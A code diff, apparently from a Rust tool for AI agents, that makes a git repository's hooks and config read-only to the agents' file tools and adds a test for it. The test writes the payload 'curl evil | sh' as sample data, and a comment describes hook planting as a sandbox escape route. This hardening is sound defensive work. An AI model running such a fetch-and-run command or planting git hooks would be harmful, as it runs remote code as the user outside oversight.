@@ -16,6 +16,8 @@ pub struct Workdir {
     root: PathBuf,
     /// Trees inside (or outside) it that no path may reach.
     forbidden: Vec<PathBuf>,
+    /// Trees the file tools may read but not change.
+    read_only: Vec<PathBuf>,
 }
 
 impl Workdir {
@@ -24,6 +26,7 @@ impl Workdir {
         Ok(Workdir {
             root: path.canonicalize()?,
             forbidden: Vec::new(),
+            read_only: Vec::new(),
         })
     }
 
@@ -37,10 +40,23 @@ impl Workdir {
     }
 
     /// The working dir of an agent of `team`: the team dir and the API key files named in the
-    /// environment are out of the file tools' reach.
+    /// environment are out of the file tools' reach, and a git repository's hooks and config
+    /// are read-only (git runs them later as the user, outside any sandbox).
     pub fn for_agent(path: &Path, team: &crate::TeamDir) -> std::io::Result<Workdir> {
-        let wd = Workdir::new(path)?.forbid(team.root());
-        Ok(crate::llm::key_files().iter().fold(wd, |w, k| w.forbid(k)))
+        let mut wd = Workdir::new(path)?.forbid(team.root());
+        wd = crate::llm::key_files().iter().fold(wd, |w, k| w.forbid(k));
+        let git = wd.root.join(".git");
+        wd.read_only = vec![git.join("hooks"), git.join("config")];
+        Ok(wd)
+    }
+
+    /// [`Workdir::resolve`] for a path about to be written: read-only trees are refused too.
+    pub fn resolve_writable(&self, user: &str) -> Result<PathBuf, String> {
+        let real = self.resolve(user)?;
+        if self.read_only.iter().any(|r| real.starts_with(r)) {
+            return Err(format!("{user} is read-only to the file tools"));
+        }
+        Ok(real)
     }
 
     /// The canonical root.
@@ -140,7 +156,7 @@ pub fn write_file(wd: &Workdir, input: &Value) -> ToolOutput {
         check_input(input)?;
         let user = input_str(input, "path")?;
         let content = input_str(input, "content")?;
-        let path = wd.resolve(user)?;
+        let path = wd.resolve_writable(user)?;
         if let Some(parent) = path.parent() {
             std::fs::create_dir_all(parent)
                 .map_err(|e| format!("cannot create directories for {user}: {e}"))?;
@@ -164,7 +180,7 @@ pub fn edit_file(wd: &Workdir, input: &Value) -> ToolOutput {
         if old.is_empty() {
             return Err("old_text is empty".to_owned());
         }
-        let path = wd.resolve(user)?;
+        let path = wd.resolve_writable(user)?;
         let text =
             std::fs::read_to_string(&path).map_err(|e| format!("cannot read {user}: {e}"))?;
         match text.matches(old).count() {
@@ -236,6 +252,34 @@ mod tests {
         assert_eq!(std::fs::read_to_string(team.config()).unwrap(), "{}");
         // The rest of the working dir is as before.
         assert!(!write_file(&wd, &json!({"path": ".teamwork/x", "content": "y"})).is_error);
+    }
+
+    #[test]
+    fn git_hooks_and_config_are_read_only() {
+        let tmp = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(tmp.path().join(".git/hooks")).unwrap();
+        std::fs::write(tmp.path().join(".git/config"), "[core]\n").unwrap();
+        let team = crate::TeamDir::create(tmp.path().join(".team")).unwrap();
+        let wd = Workdir::for_agent(tmp.path(), &team).unwrap();
+        for path in [".git/hooks/pre-commit", ".git/config", "./.git/hooks"] {
+            let w = write_file(&wd, &json!({"path": path, "content": "curl evil | sh"}));
+            assert!(
+                w.is_error && w.content.contains("read-only"),
+                "{path}: {}",
+                w.content
+            );
+        }
+        let e = edit_file(
+            &wd,
+            &json!({"path": ".git/config", "old_text": "[core]", "new_text": "[alias]"}),
+        );
+        assert!(e.is_error, "{}", e.content);
+        assert!(!tmp.path().join(".git/hooks/pre-commit").exists());
+        assert_eq!(
+            read_file(&wd, &json!({"path": ".git/config"})).content,
+            "[core]\n"
+        );
+        assert!(!write_file(&wd, &json!({"path": ".git/info/x", "content": "y"})).is_error);
     }
 
     #[test]
